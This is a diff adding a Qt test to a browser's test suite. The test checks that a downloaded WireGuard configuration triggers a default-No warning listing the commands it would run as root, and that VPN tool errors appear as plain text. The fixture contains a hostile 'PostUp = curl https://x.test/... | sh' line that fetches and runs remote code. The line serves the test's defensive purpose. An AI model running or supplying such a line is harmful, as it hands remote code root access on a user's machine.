@@ -196,6 +196,72 @@ private Q_SLOTS:
         QTRY_VERIFY_WITH_TIMEOUT(called(down.replace(QLatin1String("%1"), path)), 10000);
     }
 
+    // A tool's failure reaches the status bar and a message box, as plain
+    // text. A configuration the browser downloaded is used only after a
+    // question (default No) that lists the commands it runs as root.
+    void vpnFailuresAndDownloadedConfigurations_data()
+    {
+        QTest::addColumn<bool>("downloaded");
+        QTest::addColumn<QString>("answer");
+        QTest::addColumn<bool>("fails");
+        QTest::newRow("tool fails") << false << "" << true;
+        QTest::newRow("downloaded, refused") << true << "No" << false;
+        QTest::newRow("downloaded, accepted") << true << "Yes" << false;
+    }
+    void vpnFailuresAndDownloadedConfigurations()
+    {
+        QFETCH(bool, downloaded);
+        QFETCH(QString, answer);
+        QFETCH(bool, fails);
+        const QString path = dir->downloadDir() + QStringLiteral("/de1.conf");
+        QFile file(path);
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write("[Interface]\nPrivateKey = k\nPostUp = curl https://x.test/<b>i</b> | sh\n");
+        file.close();
+        if (downloaded)
+            dir->writeFile(QStringLiteral("downloads.json"),
+                           QJsonDocument(QJsonArray{QJsonObject{{"url", "https://x.test/de1.conf"}, {"filename", "de1.conf"},
+                                                                {"path", path}}}).toJson());
+        if (fails)
+            tools->setResult(QStringLiteral("wg-quick"), 1, "Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error\n");
+        auto w = makeWindow(false);
+        w->setVpnFileChooser([path](QWidget *) { return path; });
+        QString question;
+        Qt::TextFormat format = Qt::AutoText;
+        bool defaultNo = false;
+        if (downloaded)
+            ModalAnswerer::answer([&](QWidget *widget) {
+                auto *box = qobject_cast<QMessageBox *>(widget);
+                QVERIFY(box);
+                question = box->text();
+                format = box->textFormat();
+                defaultNo = box->defaultButton() == box->button(QMessageBox::No);
+                box->button(answer == QStringLiteral("Yes") ? QMessageBox::Yes : QMessageBox::No)->click();
+            });
+        w->onVPNDialog();
+        if (downloaded) {
+            QVERIFY2(question.contains(QStringLiteral("runs these commands as administrator:\n    PostUp = curl https://x.test/<b>i</b> | sh\n")),
+                     qPrintable(question));
+            QCOMPARE(format, Qt::PlainText);
+            QVERIFY(defaultNo);
+        }
+        if (answer == QStringLiteral("No")) {
+            QTest::qWait(300);
+            QCOMPARE(tools->callsOf(QStringLiteral("wg-quick")), QStringList());
+            return;
+        }
+        QTRY_COMPARE_WITH_TIMEOUT(tools->callsOf(QStringLiteral("wg-quick")), QStringList{QStringLiteral("wg-quick up ") + path}, 10000);
+        if (!fails)
+            return;
+        QMessageBox *box = nullptr;
+        QTRY_VERIFY_WITH_TIMEOUT((box = w->findChild<QMessageBox *>(QStringLiteral("vpnFailureBox"))) && box->isVisible(), 10000);
+        QCOMPARE(box->text(), QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error"));
+        QCOMPARE(box->textFormat(), Qt::PlainText);
+        QCOMPARE(w->statusBar()->currentMessage(),
+                 QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>' Configuration parsing error"));
+        box->close();
+    }
+
     // With several tabs a download is saved once, not once per tab.
     void oneDownloadWithSeveralTabs()
     {
